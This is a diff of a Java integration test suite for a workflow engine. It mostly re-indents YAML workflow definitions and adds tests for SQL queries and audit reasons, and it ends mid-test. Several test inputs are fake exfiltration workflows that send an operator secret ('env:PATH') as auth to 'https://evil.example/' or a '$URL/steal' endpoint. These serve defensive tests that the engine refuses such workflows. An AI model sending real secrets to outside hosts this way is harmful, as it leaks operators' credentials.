@@ -7,6 +7,7 @@ import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.ObjectMapper;
+import com.fasterxml.jackson.databind.util.RawValue;
 import com.google.protobuf.StringValue;
 import com.sun.net.httpserver.HttpExchange;
 import dev.parley.platform.database.Database;
@@ -19,6 +20,7 @@ import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.time.Duration;
+import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
 import java.util.UUID;
@@ -58,28 +60,28 @@ class WorkflowsIT {
     static void start() throws IOException {
         // replaces the container engine: same command line, but runs the command on this machine
         Path engine = Files.writeString(folder.resolve("engine"), """
-                #!/bin/sh
-                while [ "$1" != -c ]; do shift; done
-                exec /bin/sh "$@"
-                """);
+            #!/bin/sh
+            while [ "$1" != -c ]; do shift; done
+            exec /bin/sh "$@"
+            """);
         assertTrue(engine.toFile().setExecutable(true));
         Files.writeString(folder.resolve("parley.yml"), """
-                tools:
-                  allowedHosts: ["127.0.0.1"]
-                  secrets: { "env:PATH": { to: [127.0.0.1], projects: [default], hosts: [default] } }
-                commandsAsRoot: true
-                workflows:
-                  shell: { projects: [default], hosts: [default] }
-                  containers: { program: "%s", images: ["alpine"], projects: [default], hosts: [default] }
-                permissions:
-                  - { tool: "*", action: allow }
-                  - { agent: careful, tool: workflow_show, action: ask }
-                agents:
-                  - name: default
-                    tools: [workflow_start, workflow_show, workflow_signal]
-                  - { name: payer, tools: [pay] }
-                  - { name: careful, tools: [workflow_show] }
-                """.formatted(engine));
+            tools:
+              allowedHosts: ["127.0.0.1"]
+              secrets: { "env:PATH": { to: [127.0.0.1], projects: [default], hosts: [default] } }
+            commandsAsRoot: true
+            workflows:
+              shell: { projects: [default], hosts: [default] }
+              containers: { program: "%s", images: ["alpine"], projects: [default], hosts: [default] }
+            permissions:
+              - { tool: "*", action: allow }
+              - { agent: careful, tool: workflow_show, action: ask }
+            agents:
+              - name: default
+                tools: [workflow_start, workflow_show, workflow_signal]
+              - { name: payer, tools: [pay] }
+              - { name: careful, tools: [workflow_show] }
+            """.formatted(engine));
         environment = Instances.environment(folder.resolve("data"));
         instance = Instances.start(environment);
         api = Api.of(instance);
@@ -252,9 +254,9 @@ class WorkflowsIT {
     void startsAProcessOncePerIdOrKeyAndValidatesItsInput() {
         // Given
         given("names", """
-                input: { schema: { document: { type: object, required: [n], properties: { n: { type: integer } } } } }
-                do: [ { end: { set: { n: '${ .n + 1 }' } } } ]
-                """);
+            input: { schema: { document: { type: object, required: [n], properties: { n: { type: integer } } } } }
+            do: [ { end: { set: { n: '${ .n + 1 }' } } } ]
+            """);
         var body = Map.of("instanceId", "order-7", "input", Map.of("n", 1));
 
         // When
@@ -284,9 +286,9 @@ class WorkflowsIT {
     void filtersByBusinessKeysAndKeepsTheirDigits() {
         // Given
         given("keys", """
-                do:
-                  - note: { set: { done: true }, export: { as: '${ { business: { customStatusCode: "LATE", resultCode: "OK" } } }' } }
-                """);
+            do:
+              - note: { set: { done: true }, export: { as: '${ { business: { customStatusCode: "LATE", resultCode: "OK" } } }' } }
+            """);
         var business = Map.of(
                 "partyId", "p-9",
                 "price", "12.3400",
@@ -327,10 +329,10 @@ class WorkflowsIT {
     void eachTaskRunHasARowAndAnErrorNamesItsTask() {
         // Given
         given("rows", """
-                do:
-                  - loop: { for: { each: n, in: '${ [1, 2, 3] }' }, do: [ { twice: { set: { n: '${ $n * 2 }' } } } ] }
-                  - fail: { raise: { error: { type: 'https://example.com/errors/broke', status: 422, title: Broke } } }
-                """);
+            do:
+              - loop: { for: { each: n, in: '${ [1, 2, 3] }' }, do: [ { twice: { set: { n: '${ $n * 2 }' } } } ] }
+              - fail: { raise: { error: { type: 'https://example.com/errors/broke', status: 422, title: Broke } } }
+            """);
 
         // When
         JsonNode process = run("rows");
@@ -359,8 +361,8 @@ class WorkflowsIT {
                 "child",
                 "do: [ { hold: { if: '${ .hold }', ask: { prompt: hold } } }, { end: { set: { n: '${ 42 }' } } } ]\n");
         given("parent", """
-                do: [ { inner: { run: { workflow: { namespace: test, name: child, version: latest, input: { hold: '${ .hold }' } } } } } ]
-                """);
+            do: [ { inner: { run: { workflow: { namespace: test, name: child, version: latest, input: { hold: '${ .hold }' } } } } } ]
+            """);
 
         assertEquals(
                 42,
@@ -467,11 +469,11 @@ class WorkflowsIT {
     void businessKeysChangeUntilTheEndAndAreFilterableByTime() {
         // Given
         given("about", """
-                do:
-                  - first: { input: { from: .given }, set: { n: '${ . + 1 }' }, output: { as: '{ out: .n }' } }
-                  - hold: { ask: { prompt: hold } }
-                  - note: { set: { business: { customStatusCode: SETTLED } }, export: { as: . } }
-                """);
+            do:
+              - first: { input: { from: .given }, set: { n: '${ . + 1 }' }, output: { as: '{ out: .n }' } }
+              - hold: { ask: { prompt: hold } }
+              - note: { set: { business: { customStatusCode: SETTLED } }, export: { as: . } }
+            """);
         var business = Map.of(
                 "eventStart", "2025-04-01T08:00:00Z",
                 "eventEnd", "2025-04-02T08:00:00Z",
@@ -541,11 +543,11 @@ class WorkflowsIT {
     void retriesAFailedTaskAndRestartsFromATask() {
         // Given
         given("repaired", """
-                do:
-                  - prepare: { input: { from: .order }, set: { order: '${ . }' }, output: { as: '{ order }' }, export: { as: '{ prepared: .order }' } }
-                  - pay: { call: http, with: { method: post, endpoint: '$URL/pay/{order}' } }
-                  - end: { set: { receipt: '${ .receipt }', order: '${ $context.prepared }' } }
-                """);
+            do:
+              - prepare: { input: { from: .order }, set: { order: '${ . }' }, output: { as: '{ order }' }, export: { as: '{ prepared: .order }' } }
+              - pay: { call: http, with: { method: post, endpoint: '$URL/pay/{order}' } }
+              - end: { set: { receipt: '${ .receipt }', order: '${ $context.prepared }' } }
+            """);
         called.answers(
                 HttpDouble.json(500, "{}"),
                 HttpDouble.json(500, "{}"),
@@ -585,6 +587,10 @@ class WorkflowsIT {
         assertEquals(409, api.post(path + "/restart", Map.of("from", "nope")).status());
         Answer restarted = api.post(path + "/restart", Map.of("from", "pay"));
         assertEquals(202, restarted.status(), restarted.text());
+        assertTrue(
+                tasks(id).stream()
+                        .anyMatch(task -> task.path("comment").asText().equals("the bank is back")),
+                tasks(id).toString());
         JsonNode repeated = api.get(
                         "/v1/processes/" + restarted.json().path("id").asText() + "?wait=60s")
                 .json();
@@ -602,11 +608,11 @@ class WorkflowsIT {
     void replayRebuildsTheTables() {
         // Given
         given("replayed", """
-                do:
-                  - loop: { for: { each: n, in: '${ [1, 2] }' }, do: [ { twice: { set: { n: '${ $n * 2 }' } } } ] }
-                  - hold: { ask: { prompt: hold, assignment: { roleId: judge } } }
-                  - end: { set: { done: true }, export: { as: '{ business: { partyId: "p-1" } }' } }
-                """);
+            do:
+              - loop: { for: { each: n, in: '${ [1, 2] }' }, do: [ { twice: { set: { n: '${ $n * 2 }' } } } ] }
+              - hold: { ask: { prompt: hold, assignment: { roleId: judge } } }
+              - end: { set: { done: true }, export: { as: '{ business: { partyId: "p-1" } }' } }
+            """);
         String completed = api.post("/v1/workflows/test:replayed/instances", null)
                 .json()
                 .path("id")
@@ -648,19 +654,19 @@ class WorkflowsIT {
     void retriesAnHttpCallAndUsesItsResponse() {
         // Given
         given("http", """
-                do:
-                  - get:
-                      try:
-                        - pet:
-                            call: http
-                            with: { method: get, endpoint: '$URL/pets/{id}', query: { full: true }, headers: { X-Tenant: t1 } }
-                      catch:
-                        errors: { with: { type: https://serverlessworkflow.io/spec/1.0.0/errors/communication, status: 503 } }
-                        retry: { delay: PT0.1S, limit: { attempt: { count: 3 } } }
-                  - send:
-                      call: http
-                      with: { method: post, endpoint: { uri: '$URL/orders' }, body: { pet: '${ .name }' }, output: response }
-                """);
+            do:
+              - get:
+                  try:
+                    - pet:
+                        call: http
+                        with: { method: get, endpoint: '$URL/pets/{id}', query: { full: true }, headers: { X-Tenant: t1 } }
+                  catch:
+                    errors: { with: { type: https://serverlessworkflow.io/spec/1.0.0/errors/communication, status: 503 } }
+                    retry: { delay: PT0.1S, limit: { attempt: { count: 3 } } }
+              - send:
+                  call: http
+                  with: { method: post, endpoint: { uri: '$URL/orders' }, body: { pet: '${ .name }' }, output: response }
+            """);
         called.answers(
                 HttpDouble.json(503, "{}"),
                 HttpDouble.json(200, "{\"name\":\"Milou\"}"),
@@ -693,19 +699,20 @@ class WorkflowsIT {
     void anOperationOfOpenApiAndAMethodOfJsonRpcAreCalled() {
         // Given
         given("apis", """
-                do:
-                  - pet:
-                      call: openapi
-                      with:
-                        document: { endpoint: '$URL/openapi.json' }
-                        operationId: getPet
-                        parameters: { petId: 3 }
-                  - sum: { call: jsonrpc, with: { endpoint: '$URL/rpc', method: add, params: [1, 2] } }
-                """);
+            do:
+              - pet:
+                  call: openapi
+                  with:
+                    document: { endpoint: '$URL/openapi.json' }
+                    operationId: getPet
+                    parameters: { petId: 3 }
+              - sum: { call: jsonrpc, with: { endpoint: '$URL/rpc', method: add, params: [1, 2] } }
+            """);
         called.answers(
                 HttpDouble.json(200, """
-                        {"openapi":"3.0.0","servers":[{"url":"/v2"}],"paths":{"/pets/{petId}":{"get":{"operationId":"getPet",
-                         "parameters":[{"name":"petId","in":"path","required":true}]}}}}"""),
+                    {"openapi":"3.0.0","servers":[{"url":"/v2"}],"paths":{"/pets/{petId}":{"get":{"operationId":"getPet",
+                     "parameters":[{"name":"petId","in":"path","required":true}]}}}}\
+                    """),
                 HttpDouble.json(200, "{\"id\":3}"),
                 HttpDouble.json(200, "{\"jsonrpc\":\"2.0\",\"id\":\"x\",\"result\":3}"));
 
@@ -723,19 +730,20 @@ class WorkflowsIT {
     void sendsTheDeclaredBodyOfASwaggerOperation() {
         // Given
         given("swagger", """
-                do:
-                  - pet:
-                      call: openapi
-                      with:
-                        document: { endpoint: '$URL/swagger.json' }
-                        operationId: addPet
-                        parameters: { undeclared: x, pet: { name: Rex } }
-                """);
+            do:
+              - pet:
+                  call: openapi
+                  with:
+                    document: { endpoint: '$URL/swagger.json' }
+                    operationId: addPet
+                    parameters: { undeclared: x, pet: { name: Rex } }
+            """);
         called.answers(HttpDouble.json(200, """
-                        {"swagger":"2.0","basePath":"/v1","paths":{"/pets":{
-                         "parameters":[{"name":"pet","in":"body"},{"name":"trace","in":"header","required":true}],
-                         "post":{"operationId":"addPet","parameters":[
-                          {"name":"pet","in":"body","required":true},{"name":"trace","in":"header"}]}}}}"""), HttpDouble.json(200, "{\"id\":3}"));
+            {"swagger":"2.0","basePath":"/v1","paths":{"/pets":{
+             "parameters":[{"name":"pet","in":"body"},{"name":"trace","in":"header","required":true}],
+             "post":{"operationId":"addPet","parameters":[
+              {"name":"pet","in":"body","required":true},{"name":"trace","in":"header"}]}}}}\
+            """), HttpDouble.json(200, "{\"id\":3}"));
 
         // When
         JsonNode process = run("swagger");
@@ -759,37 +767,37 @@ class WorkflowsIT {
         try (var greeter = new GrpcDouble(_ -> replies.next())) {
             for (int i = 0; i < 3; i++) {
                 called.answers(HttpDouble.body(200, "text/plain", """
-                        syntax = "proto3";
-                        package greeting;
-                        message Name { string first_name = 1; }
-                        message Greeting { string text = 1; }
-                        service Greeter { rpc SayHello (Name) returns (Greeting); }
-                        """));
+                    syntax = "proto3";
+                    package greeting;
+                    message Name { string first_name = 1; }
+                    message Greeting { string text = 1; }
+                    service Greeter { rpc SayHello (Name) returns (Greeting); }
+                    """));
             }
             given("grpc", """
-                    use:
-                      functions:
-                        hello:
-                          call: grpc
-                          with:
-                            proto: { endpoint: '$URL/greeter.proto' }
-                            service: { name: greeting.Greeter, host: 127.0.0.1, port: $PORT }
-                            method: SayHello
-                            arguments: { firstName: '${ .name }' }
-                    do:
-                      - ann:
-                          try: [ { greet: { call: hello, with: { name: Ann } } } ]
-                          catch:
-                            errors: { with: { status: 503 } }
-                            retry: { delay: PT0.1S, limit: { attempt: { count: 3 } } }
-                          export: { as: '{ text: .text }' }
-                      - bob:
-                          try: [ { miss: { call: hello, with: { name: Bob } } } ]
-                          catch:
-                            errors: { with: { status: 404 } }
-                            as: lost
-                            do: [ { end: { set: { text: '${ $context.text }', lost: '${ $lost.detail }' } } } ]
-                    """.replace("$PORT", String.valueOf(greeter.port())));
+                use:
+                  functions:
+                    hello:
+                      call: grpc
+                      with:
+                        proto: { endpoint: '$URL/greeter.proto' }
+                        service: { name: greeting.Greeter, host: 127.0.0.1, port: $PORT }
+                        method: SayHello
+                        arguments: { firstName: '${ .name }' }
+                do:
+                  - ann:
+                      try: [ { greet: { call: hello, with: { name: Ann } } } ]
+                      catch:
+                        errors: { with: { status: 503 } }
+                        retry: { delay: PT0.1S, limit: { attempt: { count: 3 } } }
+                      export: { as: '{ text: .text }' }
+                  - bob:
+                      try: [ { miss: { call: hello, with: { name: Bob } } } ]
+                      catch:
+                        errors: { with: { status: 404 } }
+                        as: lost
+                        do: [ { end: { set: { text: '${ $context.text }', lost: '${ $lost.detail }' } } } ]
+                """.replace("$PORT", String.valueOf(greeter.port())));
 
             // When
             JsonNode process = run("grpc");
@@ -851,9 +859,11 @@ class WorkflowsIT {
         String result = switch (request.path("method").asText()) {
             case "initialize" ->
                 """
-                {"protocolVersion":"%s","capabilities":{"tools":{}},"serverInfo":{"name":"shop","version":"1"}}""".formatted(request.path("params").path("protocolVersion").asText());
+                {"protocolVersion":"%s","capabilities":{"tools":{}},"serverInfo":{"name":"shop","version":"1"}}\
+                """.formatted(request.path("params").path("protocolVersion").asText());
             case "tools/call" -> """
-                {"content":[{"type":"text","text":"7.50"}],"structuredContent":{"price":7.5},"isError":false}""";
+                {"content":[{"type":"text","text":"7.50"}],"structuredContent":{"price":7.5},"isError":false}\
+                """;
             default -> "{}";
         };
         HttpDouble.json(200, "{\"jsonrpc\":\"2.0\",\"id\":%s,\"result\":%s}".formatted(request.get("id"), result))
@@ -865,28 +875,30 @@ class WorkflowsIT {
     void callsOpenRpcMethodsAndA2aAgents() {
         // Given
         given("elsewhere", """
-                do:
-                  - sum: { call: openrpc, with: { document: { endpoint: '$URL/openrpc.json' }, method: sum, params: { b: 2, a: 1 } } }
-                  - ask:
-                      call: a2a
-                      with:
-                        agentCard: { endpoint: '$URL/.well-known/agent-card.json' }
-                        method: message/send
-                        parameters: { message: { parts: [ { kind: text, text: '${ "Is it \\(.)?" }' } ] } }
-                  - end: { set: { said: '${ .status.message.parts[0].text }' } }
-                """);
+            do:
+              - sum: { call: openrpc, with: { document: { endpoint: '$URL/openrpc.json' }, method: sum, params: { b: 2, a: 1 } } }
+              - ask:
+                  call: a2a
+                  with:
+                    agentCard: { endpoint: '$URL/.well-known/agent-card.json' }
+                    method: message/send
+                    parameters: { message: { parts: [ { kind: text, text: '${ "Is it \\(.)?" }' } ] } }
+              - end: { set: { said: '${ .status.message.parts[0].text }' } }
+            """);
         called.answers(
                 HttpDouble.json(200, """
-                        {"openrpc":"1.3.2","servers":[{"url":"$URL/rpc"}],"methods":[{"name":"sum","paramStructure":"by-position",
-                         "params":[{"name":"a","required":true},{"name":"b"}]}]}""".replace("$URL", called.url().toString())),
+                    {"openrpc":"1.3.2","servers":[{"url":"$URL/rpc"}],"methods":[{"name":"sum","paramStructure":"by-position",
+                     "params":[{"name":"a","required":true},{"name":"b"}]}]}\
+                    """.replace("$URL", called.url().toString())),
                 HttpDouble.json(200, "{\"jsonrpc\":\"2.0\",\"id\":\"x\",\"result\":3}"),
                 HttpDouble.json(
                         200,
                         "{\"name\":\"Oracle\",\"url\":\"$URL/a2a\"}"
                                 .replace("$URL", called.url().toString())),
                 HttpDouble.json(200, """
-                        {"jsonrpc":"2.0","id":"y","result":{"id":"t1","status":{"state":"completed","message":{"role":"agent",
-                         "parts":[{"kind":"text","text":"Yes"}]}}}}"""));
+                    {"jsonrpc":"2.0","id":"y","result":{"id":"t1","status":{"state":"completed","message":{"role":"agent",
+                     "parts":[{"kind":"text","text":"Yes"}]}}}}\
+                    """));
 
         // When
         JsonNode process = run("elsewhere");
@@ -905,22 +917,22 @@ class WorkflowsIT {
     void callsToolsAndRunsScripts() {
         // Given
         given("scripts", """
-                do:
-                  - now: { call: tool, with: { tool: time, arguments: { } }, export: { as: '{ now: . }' } }
-                  - count:
-                      run:
-                        script:
-                          language: javascript
-                          stdin: a b c
-                          environment: { UNIT: words }
-                          arguments: [ 'there are' ]
-                          code: |
-                            import { readFileSync } from 'node:fs';
-                            const words = readFileSync(process.stdin.fd, 'utf8').split(' ');
-                            console.log(process.argv[2], words.length, process.env.UNIT);
-                  - fail: { run: { script: { language: js, code: 'console.error("no"); process.exit(3)' }, return: all } }
-                  - end: { set: { code: '${ .code }', error: '${ .stderr }', now: '${ $context.now | length > 5 }' } }
-                """);
+            do:
+              - now: { call: tool, with: { tool: time, arguments: { } }, export: { as: '{ now: . }' } }
+              - count:
+                  run:
+                    script:
+                      language: javascript
+                      stdin: a b c
+                      environment: { UNIT: words }
+                      arguments: [ 'there are' ]
+                      code: |
+                        import { readFileSync } from 'node:fs';
+                        const words = readFileSync(process.stdin.fd, 'utf8').split(' ');
+                        console.log(process.argv[2], words.length, process.env.UNIT);
+              - fail: { run: { script: { language: js, code: 'console.error("no"); process.exit(3)' }, return: all } }
+              - end: { set: { code: '${ .code }', error: '${ .stderr }', now: '${ $context.now | length > 5 }' } }
+            """);
         given("broken-script", "do: [ { run: { run: { script: { language: js, code: 'nope()' } } } } ]\n");
         given("no-tool", "do: [ { run: { call: tool, with: { tool: nope } } } ]\n");
 
@@ -952,40 +964,40 @@ class WorkflowsIT {
         // Given
         // the example of the specification
         given("shell-example", """
-                do:
-                  - setInput: { set: { message: Hello World } }
-                  - runShell:
-                      input:
-                        from: ${ .message }
-                      run:
-                        shell:
-                          stdin: ${ . }
-                          command: |
-                            input=$(cat)
-                            echo "STDIN was: $input"
-                            echo "ARGS are $1 $2"
-                          arguments:
-                          - Foo
-                          - Bar
-                """);
+            do:
+              - setInput: { set: { message: Hello World } }
+              - runShell:
+                  input:
+                    from: ${ .message }
+                  run:
+                    shell:
+                      stdin: ${ . }
+                      command: |
+                        input=$(cat)
+                        echo "STDIN was: $input"
+                        echo "ARGS are $1 $2"
+                      arguments:
+                      - Foo
+                      - Bar
+            """);
         given("shell", """
-                do:
-                  - count: { run: { shell: { command: 'echo "$UNIT" >&2; exit 3', environment: { UNIT: '${ "a\\(.n)" }' } }, return: all } }
-                  - fails:
-                      try: [ { exit: { run: { shell: { command: 'echo broken >&2; exit 4' } } } } ]
-                      catch:
-                        as: error
-                        errors: { with: { type: https://serverlessworkflow.io/spec/1.0.0/errors/communication } }
-                        do: [ { note: { set: { said: '${ $error.detail }' } } } ]
-                      export: { as: '{ fails: .said }' }
-                  - slow:
-                      try: [ { nap: { run: { shell: { command: sleep 600 } }, timeout: { after: PT1S } } } ]
-                      catch: { do: [ { note: { set: { status: '${ $error.status }' } } } ] }
-                      export: { as: '$context + { slow: .status }' }
-                  - key: { run: { shell: { command: 'printf %s "$IDEMPOTENCY_KEY"' } }, idempotencyKey: '"my-key"' }
-                  - code: { run: { shell: { command: 'exit 5' }, return: code }, export: { as: '$context + { code: . }' } }
-                output: { as: '$context' }
-                """);
+            do:
+              - count: { run: { shell: { command: 'echo "$UNIT" >&2; exit 3', environment: { UNIT: '${ "a\\(.n)" }' } }, return: all } }
+              - fails:
+                  try: [ { exit: { run: { shell: { command: 'echo broken >&2; exit 4' } } } } ]
+                  catch:
+                    as: error
+                    errors: { with: { type: https://serverlessworkflow.io/spec/1.0.0/errors/communication } }
+                    do: [ { note: { set: { said: '${ $error.detail }' } } } ]
+                  export: { as: '{ fails: .said }' }
+              - slow:
+                  try: [ { nap: { run: { shell: { command: sleep 600 } }, timeout: { after: PT1S } } } ]
+                  catch: { do: [ { note: { set: { status: '${ $error.status }' } } } ] }
+                  export: { as: '$context + { slow: .status }' }
+              - key: { run: { shell: { command: 'printf %s "$IDEMPOTENCY_KEY"' } }, idempotencyKey: '"my-key"' }
+              - code: { run: { shell: { command: 'exit 5' }, return: code }, export: { as: '$context + { code: . }' } }
+            output: { as: '$context' }
+            """);
 
         given("shell-list", "do: [ { run: { run: { shell: { command: 'true', arguments: { a: 1 } } } } } ]\n");
 
@@ -1016,20 +1028,20 @@ class WorkflowsIT {
     void runsContainersOfAllowedImages() {
         // Given
         given("container", """
-                do:
-                  - runs: { run: { container: { image: alpine, stdin: Hello, command: 'cat; echo " $1"', arguments: [Foo] } } }
-                """);
+            do:
+              - runs: { run: { container: { image: alpine, stdin: Hello, command: 'cat; echo " $1"', arguments: [Foo] } } }
+            """);
         given("containers", """
-                do:
-                  - other:
-                      try: [ { one: { run: { container: { image: '${ "alp" + "ine:3" }', command: 'true' } } } } ]
-                      catch: { as: e, do: [ { note: { set: '${ $e.detail }' } } ] }
-                      export: { as: '[.]' }
-                  - lines:
-                      try: [ { two: { run: { container: { image: alpine, command: 'true', environment: { A: "a\\nB=c" } } } } } ]
-                      catch: { as: e, do: [ { note: { set: '${ $e.detail }' } } ] }
-                output: { as: '$context + [.] | join("; ")' }
-                """);
+            do:
+              - other:
+                  try: [ { one: { run: { container: { image: '${ "alp" + "ine:3" }', command: 'true' } } } } ]
+                  catch: { as: e, do: [ { note: { set: '${ $e.detail }' } } ] }
+                  export: { as: '[.]' }
+              - lines:
+                  try: [ { two: { run: { container: { image: alpine, command: 'true', environment: { A: "a\\nB=c" } } } } } ]
+                  catch: { as: e, do: [ { note: { set: '${ $e.detail }' } } ] }
+            output: { as: '$context + [.] | join("; ")' }
+            """);
 
         // Then
         assertEquals("Hello Foo\n", run("container").path("output").asText());
@@ -1044,11 +1056,16 @@ class WorkflowsIT {
             strings = {
                 "do: [ { a: { run: { shell: { command: id } } } } ]",
                 "do: [ { a: { run: { container: { image: alpine } } } } ]",
-                "do: [ { a: { call: http, with: { method: get, endpoint: { uri: 'https://evil.example/', authentication: { bearer: { token: 'env:PATH' } } } } } } ]",
-                "use: { authentications: { crm: { basic: { username: x, password: 'env:PATH' } } } }\ndo: [ { a: { call: http, with: { method: get, endpoint: { uri: 'https://evil.example/', authentication: { use: crm } } } } } ]",
+                "do: [ { a: { call: http, with: { method: get, endpoint: { uri: 'https://evil.example/',"
+                        + " authentication: { bearer: { token: 'env:PATH' } } } } } } ]",
+                "use: { authentications: { crm: { basic: { username: x, password: 'env:PATH' } } } }\n"
+                        + "do: [ { a: { call: http, with: { method: get, endpoint: { uri: 'https://evil.example/',"
+                        + " authentication: { use: crm } } } } } ]",
                 "do: [ { a: { call: http, with: { method: get, endpoint: 'http://127.0.0.1:1/' } } } ]",
-                "do: [ { a: { call: grpc, with: { proto: { endpoint: 'https://evil.example/x.proto' }, method: M, service: { name: S, host: 127.0.0.1, port: 1 } } } } ]",
-                "do: [ { a: { call: mcp, with: { method: tools/call, transport: { http: { endpoint: 'http://127.0.0.1:1/' } }, parameters: { name: x } } } } ]",
+                "do: [ { a: { call: grpc, with: { proto: { endpoint: 'https://evil.example/x.proto' }, method: M,"
+                        + " service: { name: S, host: 127.0.0.1, port: 1 } } } } ]",
+                "do: [ { a: { call: mcp, with: { method: tools/call, transport: { http: { endpoint:"
+                        + " 'http://127.0.0.1:1/' } }, parameters: { name: x } } } } ]",
             })
     @Tag("B24")
     void publishesNothingThatUsesAPowerOfTheOperatorElsewhere(String body) {
@@ -1096,7 +1113,8 @@ class WorkflowsIT {
     @ValueSource(
             strings = {
                 "{ uri: '${ \"$URL/steal\" }', authentication: { bearer: { token: '${ \"env:\" + \"PATH\" }' } } }",
-                "{ uri: '${ \"$URL\" }', authentication: { basic: { username: '${ \"env:\" + \"PATH\" }', password: x } } }",
+                "{ uri: '${ \"$URL\" }', authentication: { basic: { username: '${ \"env:\" + \"PATH\" }', password: x"
+                        + " } } }",
                 "'${ \"$URL/inside\" }'",
             })
     @Tag("B24")
@@ -1186,8 +1204,8 @@ class WorkflowsIT {
     void aNativeAgentAnswersWithoutTools() {
         // Given
         String definition = """
-                do: [ { ask: { call: agent, with: { agent: default, mode: %s, prompt: "!call workflow_show {}" } } } ]
-                """;
+            do: [ { ask: { call: agent, with: { agent: default, mode: %s, prompt: "!call workflow_show {}" } } } ]
+            """;
         given("natives", definition.formatted("native"));
         given("services", definition.formatted("service"));
 
@@ -1225,8 +1243,8 @@ class WorkflowsIT {
     })
     void taskLimitsTheAgent(String name, String bound, String expected) {
         given("bound-" + name, """
-                do: [ { ask: { call: agent, with: { agent: default, prompt: "!say hi", %s } } } ]
-                """.formatted(bound));
+            do: [ { ask: { call: agent, with: { agent: default, prompt: "!say hi", %s } } } ]
+            """.formatted(bound));
 
         JsonNode process = run("bound-" + name);
 
@@ -1241,8 +1259,8 @@ class WorkflowsIT {
     void approvalsOfAProcessAgentAreOnTheStartersWorklist() {
         // Given
         String work = """
-                do: [ { ask: { call: agent, with: { agent: careful, prompt: "!call workflow_show {}\\n!then\\n!say done"%s } } } ]
-                """;
+            do: [ { ask: { call: agent, with: { agent: careful, prompt: "!call workflow_show {}\\n!then\\n!say done"%s } } } ]
+            """;
         given("careful", work.formatted(""));
         given("lonely", work.formatted(", approvals: none"));
         String id = api.post("/v1/workflows/test:careful/instances", null)
@@ -1283,12 +1301,12 @@ class WorkflowsIT {
     void waitingProcessGetsEachEventOnce() {
         // Given
         given("hears", """
-                do:
-                  - both: { listen: { to: { all: [ { with: { type: test.paid } }, { with: { type: test.shipped } } ] } } }
-                """);
+            do:
+              - both: { listen: { to: { all: [ { with: { type: test.paid } }, { with: { type: test.shipped } } ] } } }
+            """);
         given("tells", """
-                do: [ { tell: { emit: { event: { with: { source: 'urn:test', type: test.shipped, data: { n: 2 } } } } } } ]
-                """);
+            do: [ { tell: { emit: { event: { with: { source: 'urn:test', type: test.shipped, data: { n: 2 } } } } } } ]
+            """);
         String id = api.post("/v1/workflows/test:hears/instances", null)
                 .json()
                 .path("id")
@@ -1317,15 +1335,15 @@ class WorkflowsIT {
     void aTaskIsClaimedDelegatedAndAnsweredOnce() {
         // Given
         given("people", """
-                do:
-                  - check:
-                      ask:
-                        prompt: 'May we pay?'
-                        mode: approval
-                        options: [APPROVED, REJECTED]
-                        assignment: { roleId: clerk, categoryCode: payments }
-                  - end: { set: { said: '${ .value }', by: '${ .by }' } }
-                """);
+            do:
+              - check:
+                  ask:
+                    prompt: 'May we pay?'
+                    mode: approval
+                    options: [APPROVED, REJECTED]
+                    assignment: { roleId: clerk, categoryCode: payments }
+              - end: { set: { said: '${ .value }', by: '${ .by }' } }
+            """);
         String id = api.post("/v1/workflows/test:people/instances", null)
                 .json()
                 .path("id")
@@ -1373,8 +1391,8 @@ class WorkflowsIT {
     @Tag("W25")
     void unansweredTaskTakesItsDefault() {
         given("late", """
-                do: [ { check: { ask: { prompt: 'Well?', options: [YES, NO], timeout: { after: PT0.5S }, onTimeout: default, default: NO } } } ]
-                """);
+            do: [ { check: { ask: { prompt: 'Well?', options: [YES, NO], timeout: { after: PT0.5S }, onTimeout: default, default: NO } } } ]
+            """);
 
         assertEquals("NO", run("late").path("output").path("value").asText());
     }
@@ -1404,9 +1422,99 @@ class WorkflowsIT {
                 .atMost(SOON)
                 .until(() -> api.list("/v1/audit?source=task").stream()
                                 .filter(row -> row.toString().contains(task)
-                                        && row.toString().contains(action))
+                                        && row.toString().contains(action)
+                                        && row.path("comment").asText().equals("because"))
                                 .count()
                         == 1);
+    }
+
+    @Test
+    @Tag("B132")
+    void jsonOfProcessesAndTasksIsQueriedInSqlDigitForDigit() {
+        // Given
+        given("digits", "do: [ { note: { set: { kept: '${ .amount }' } } } ]\n");
+        String input =
+                "{\"who\":\"Ann\",\"amount\":123456789012345678901234567890.10,\"small\":0.00000000000000000001,\"nul\":\"\\u0000\"}";
+        JsonNode process = api.post(
+                        "/v1/workflows/test:digits/instances?wait=60s", Map.of("input", new RawValue(input)))
+                .json();
+        tasks(process.path("id").asText());
+
+        // When
+        List<String> values = instance.beans()
+                .getBean(Database.class)
+                .in(
+                        Tenant.ALL,
+                        transaction -> transaction.query(
+                                """
+                                SELECT p.input_data->>'amount', t.task_input->>'amount', t.task_output->>'kept', p.output_data->>'kept',
+                                  p.input_data->>'small', p.input_data::text, p.business->>'x', p.context_data->>'x', p.error_info->>'title',
+                                  t.error_info->>'title', t.question->>'prompt'
+                                FROM workflows.process_info_t p JOIN workflows.task_info_t t USING (host_id, process_id)
+                                WHERE p.process_id = ? AND p.input_data->>'who' = 'Ann'
+                                """,
+                                row -> {
+                                    assertTrue(row.next());
+                                    var texts = new ArrayList<String>();
+                                    for (int i = 1; i <= 6; i++) {
+                                        texts.add(row.getString(i));
+                                    }
+                                    return texts;
+                                },
+                                UUID.fromString(process.path("id").asText())));
+
+        // Then
+        String amount = "123456789012345678901234567890.10";
+        assertEquals(
+                List.of(amount, amount, amount, amount, "0.00000000000000000001", input.replace("0000", "fffd")),
+                values);
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"suspend", "resume", "cancel", "retry", "skip", "restart"})
+    @Tag("B131")
+    void auditsTheReasonOfAnActionOnAProcess(String action) {
+        // Given
+        if (api.get("/v1/workflows/test:reasons").status() == 404) {
+            given("reasons", "do: [ { check: { ask: { prompt: 'Well?' } } } ]\n");
+        }
+        String id = api.post("/v1/workflows/test:reasons/instances", null)
+                .json()
+                .path("id")
+                .asText();
+        String process = "/v1/processes/" + id;
+        String task = waitingTask(id).path("id").asText();
+        if (action.equals("resume")) {
+            api.post(process + "/suspend", null);
+        }
+
+        // When
+        Map<String, String> body =
+                action.equals("skip") ? Map.of("task", "check", "reason", "as agreed") : Map.of("reason", "as agreed");
+        api.post(process + "/" + action, body); // refused ones are audited, too
+
+        // Then
+        Awaitility.await()
+                .atMost(SOON)
